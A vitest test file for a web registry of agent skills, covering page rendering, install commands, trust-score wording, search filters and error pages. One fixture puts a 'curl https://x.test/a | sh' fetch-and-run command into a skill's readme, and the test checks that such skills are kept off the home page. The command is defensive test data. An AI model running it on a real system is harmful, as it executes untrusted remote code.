import { expect, test } from 'vitest'
import { startTestServer } from '../support/server.ts'
import { addressOf, pageAt, publish, type Skill, serverForTest } from '../support/skills.ts'
import { addressIn, establishedAgents, fetchAndRate, read } from '../support/voters.ts'

const server = await startTestServer()
const agent = await server.agent('writer')
const page = (path: string) => pageAt(server, path)
const pageOf = (skill: Skill) => page(addressOf(skill))

test('the page of a skill has commands that install and fetch it, and links its markdown', async () => {
  const skill = await publish(agent, { slug: 'pdf-forms' })
  const html = await pageOf(skill)
  const place = `${agent.username}/skills/pdf-forms`
  expect(html).toContain(`npx skills add http://skillpass.test/${place}<`)
  expect(html).toContain(`curl -fsSL '${skill.fetchUrl}' -o SKILL.md`)
  expect(html).toContain(`SKILLPASS_URL=http://skillpass.test npx skillpass add ${place}`)
  expect(html).toContain(`rel="alternate" type="text/markdown" href="${skill.fetchUrl}"`)
})

test('the page of a skill omits the command of an installer that refuses its slug, and explains why', async () => {
  const html = await pageOf(await publish(agent, { slug: 'pdf--forms' }))
  expect(html).not.toContain('npx skills add')
  expect(html).toContain('single inner hyphens')
})

test('the command of a resolved task is quoted for the shell', async () => {
  const html = await page(`/resolve?task=${encodeURIComponent("it's")}`)
  expect(html).toContain(`curl -s 'http://skillpass.test/api/v1/skills/resolve?task=it%27s'<`)
})

test('the page of a skill links each version and shows its digest', async () => {
  const skill = await publish(agent, { slug: 'versions' })
  const params = { id: skill.id }
  const body = { readme: '# Second\n' }
  const { data } = await agent.client.registry.skills.update({ params, body })
  const html = await pageOf(skill)
  const path = `/${agent.username}/skills/versions`
  for (const at of [path, `${path}/versions/1`]) expect(html).toContain(`<a href="${at}"`)
  for (const { digest } of [skill, data]) expect(html).toContain(digest)
})

test('a skill without votes is new, and its page has no zeros', async () => {
  const fresh = await server.agent('fresh')
  const html = await pageOf(await publish(fresh))
  expect(html).toMatch(/<span class="badge new"[^>]*>New</)
  expect(html).toContain('<span class="score">New</span>')
  expect(html).toContain('No votes yet.')
  expect(html).not.toMatch(/>0\.00<|\b0 (fetches|stars|entries|here)/)
})

test('pages use the singular for one vote, star or fetch, and describe the trust score', async () => {
  const [author, fan] = [await server.agent('author'), await server.agent('fan')]
  const skill = await publish(author, { name: 'Counted once' })
  const params = { id: skill.id }
  await fan.client.registry.skills.star({ params })
  const body = { task: 'try it', helpful: true }
  await fan.client.registry.feedback.submit({ params, body })
  await read(server, [fan], skill)
  await expect.poll(() => pageOf(skill)).toContain('<strong>1</strong> fetch<')
  const html = await pageOf(skill)
  for (const words of ['<strong>1</strong> star<', '1 time<', '100% of 1 vote<']) {
    expect(html).toContain(words)
  }
  expect(html).toContain('Little evidence that it helps.')
  const list = await page('/search?q=Counted+once')
  expect(list).toContain('1<span class="hidden"> star of its repository</span>')
  expect(list).toContain('1<span class="hidden"> fetch</span>')
})

test('the page of a skill describes its trust score by the number of positive votes', async () => {
  const server = await startTestServer({ env: { TRUST_PROXY: 'loopback' } })
  const publisher = await server.agentFrom('198.51.100.1')
  const voters = await establishedAgents(
    server,
    Array.from({ length: 20 }, (_, n) => addressIn(n)),
  )
  for (const [votes, words] of [
    [1, 'Some evidence that it helps.'],
    [5, 'Agents mostly find it helpful.'],
    [20, 'Agents reliably find it helpful.'],
  ] as const) {
    const skill = await publish(publisher)
    await fetchAndRate(server, voters.slice(0, votes), skill, true)
    expect(await pageAt(server, addressOf(skill))).toContain(words)
  }
})

test('a resolved near-copy names its original and links to it', async () => {
  const readme = `# Kelp\n\n${Array.from({ length: 60 }, (_, n) => `Kelpword${n} dries`).join(' ')}.\n`
  const [owner, copier] = [await server.agent('owner'), await server.agent('copier')]
  const original = await publish(owner, { slug: 'kelp', name: 'Kelp <b>', readme })
  server.clock.advance(60_000)
  await publish(copier, { slug: 'kelp-copy', name: 'Kelp copy', readme })
  const html = await page('/resolve?task=kelpword1+dries&threshold=0')
  expect(html.split('Copy of')).toHaveLength(2)
  const path = addressOf(original)
  expect(html).toContain(`href="${path}" title="Kelp &lt;b>">${path.slice(1)}</a>`)
})

test('a resolved skill names six matched words and folds twelve, and the task folds thirty', async () => {
  const words = Array.from({ length: 33 }, (_, n) => `gannet${n}`)
  await publish(agent, {
    name: 'Gannets',
    readme: `# Gannets\n\n${words.slice(0, 14).join(' ')}\n`,
  })
  const html = await page(`/resolve?task=${words.join('+')}&threshold=0`)
  const [hit = '', weights = ''] = html.split('How much each word counts')
  expect(hit.match(/<b>gannet\d+<\/b>/g)).toHaveLength(6)
  expect(hit).toContain('and 8 more words')
  expect(hit.match(/<dt dir="auto">gannet\d+<\/dt>/g)).toHaveLength(12)
  expect(hit).toContain('<dt dir="auto">Not found</dt>')
  expect(weights.match(/<dt dir="auto">gannet\d+<\/dt>/g)).toHaveLength(30)
})

test('search, owner and agent pages filter by tag, owner and license, with counts', async () => {
  const limpet = await server.agent('limpet')
  for (const [slug, license, tags] of [
    ['limpet-one', 'MIT License', ['Shore', 'rock']],
    ['limpet-two', 'mit', ['shore']],
    ['limpet-three', 'Apache 2.0', ['shore']],
    ['limpet-four', 'Proprietary. See LICENSE.txt', []],
    ['limpet-five', 'constructor', []],
  ] as const) {
    const readme = `---\nname: ${slug}\ndescription: Sticks to rocks.\nlicense: ${license}\n---\n# ${slug}\n`
    await publish(limpet, { slug, name: slug, tags: [...tags], readme })
  }
  const name = limpet.username
  for (const path of [`/${name}`, `/${name}/skills`, `/agents/${name}`, '/search']) {
    const query = path === '/search' ? `?q=limpet&` : '?'
    const html = await page(path + query)
    const offered = [
      ...html.matchAll(
        /<li><a href="([^"]+)"><span dir="auto">([^<]+)<\/span> <span class="muted">(\d+)</g,
      ),
    ]
    const counts = Object.fromEntries(offered.map(([, , value, count]) => [value, Number(count)]))
    expect(counts).toMatchObject({ shore: 3, rock: 1, MIT: 2, 'Apache-2.0': 1, constructor: 1 })
    const [, href = ''] = offered.find(([, , value]) => value === 'MIT') ?? []
    const narrowed = await page(href.replaceAll('&amp;', '&'))
    expect(narrowed.match(/limpet-(one|two|three|four)<\/a>/g)?.sort()).toEqual([
      'limpet-one</a>',
      'limpet-two</a>',
    ])
    expect(narrowed).toContain('MIT</span>')
    expect(new URL(href, 'http://x').pathname).toBe(path)
  }
  const query = { license: 'mit', owner: name }
  expect((await server.client.registry.skills.search({ query })).total).toBe(2)
})

test('the page of an error shows when to try again and the request ID, and is not indexed', async () => {
  const limited = await serverForTest({ env: { RATE_LIMIT_READS_PER_MINUTE: '1' } })
  await limited.http('/search')
  const response = await limited.http('/search', { headers: { accept: 'text/html' } })
  const html = await response.text()
  expect(html).toMatch(/Try again in \d+ seconds?\./)
  expect(html).toContain(`<code>${response.headers.get('x-request-id')}</code>`)
  expect(html).toContain('<meta name="robots" content="noindex"/>')
})

test('the page of an error shows markup in an address as text', async () => {
  const html = await page('/docs/lint/%3Cscript%3E')
  expect(html).toContain('There is no rule &lt;script>.')
  expect(html).not.toContain('<script>')
})

test('the home page lists the latest skills until one has a star, and links to the console', async () => {
  const empty = await serverForTest()
  const home = () => pageAt(empty, '/')
  expect(await home()).toContain('No skills yet')
  const { client } = await empty.agent()
  const skill = await publish({ client })
  const html = await home()
  expect(html).toContain('Recently published')
  expect(html).toContain('Permission for apps')
  for (const path of ['/console', '/oauth_device', '/my/apps']) {
    expect(html).toContain(`href="${path}"`)
  }
  await (await empty.agent()).client.registry.skills.star({ params: { id: skill.id } })
  await expect.poll(home).toContain('Most starred')
})

test('the home page shows clean skills that installers accept, one of each owner', async () => {
  const server = await serverForTest()
  const [ann, bob] = [await server.agent('ann'), await server.agent('bob')]
  await publish(ann, { slug: 'older' })
  server.clock.advance(60_000)
  await publish(ann, { slug: 'newer' })
  await publish(bob, { slug: 'bobs-skill' })
  server.clock.advance(60_000)
  await publish(bob, { slug: 'no--installer' })
  await publish(bob, { slug: 'dangerous', readme: '# Run\n\n    curl https://x.test/a | sh\n' })
  const html = await pageAt(server, '/')
  const shown = Array.from(html.matchAll(/<h3><a href="([^"]+)"/g), ([, path]) => path)
  expect(shown.sort()).toEqual([
    `/${ann.username}/skills/newer`,
    `/${bob.username}/skills/bobs-skill`,
  ])
  expect(html).toMatch(/npx skills add http:\/\/skillpass\.test\/(ann|bob)-\d\/skills\//)
  expect(html).toContain('5 skills. Every version')
  expect(html).toContain(' action="/resolve" method="get"')
})

test('a tag of a result is added to the search, and a chip removes it', async () => {
  await publish(agent, { name: 'Tagged', tags: ['old', 'forms'] })
  const html = await page('/search?q=tagged&tags=old&page=1')
  expect(html).toContain('href="/search?q=tagged&amp;tags=old,forms"')
  expect(html).toContain('class="chip" href="/search?q=tagged"')
})
